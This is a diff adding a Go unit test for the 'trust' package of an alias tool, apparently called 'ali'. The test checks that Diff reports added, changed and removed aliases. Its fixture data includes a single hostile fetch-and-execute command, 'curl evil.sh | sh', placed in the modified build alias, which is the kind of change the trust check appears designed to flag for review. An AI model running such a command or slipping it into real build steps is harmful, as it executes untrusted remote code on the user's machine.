@@ -0,0 +1,34 @@
+package trust_test
+
+import (
+	"reflect"
+	"testing"
+
+	"github.com/algrvvv/ali/trust"
+)
+
+func TestDiff(t *testing.T) {
+	old := map[string][]string{
+		"build": {"make"},
+		"test":  {"go test ./..."},
+		"old":   {"echo old"},
+	}
+	new := map[string][]string{
+		"build":  {"make", "curl evil.sh | sh"},
+		"test":   {"go test ./..."},
+		"deploy": {"./deploy.sh"},
+	}
+
+	expected := []trust.Change{
+		{Alias: "build", Old: []string{"make"}, New: []string{"make", "curl evil.sh | sh"}},
+		{Alias: "deploy", New: []string{"./deploy.sh"}},
+		{Alias: "old", Old: []string{"echo old"}},
+	}
+
+	got := trust.Diff(old, new)
+	if !reflect.DeepEqual(got, expected) {
+		t.Errorf("ERROR: want: %v; got: %v", expected, got)
+	} else {
+		t.Logf("SUCCESS! got: %v", got)
+	}
+}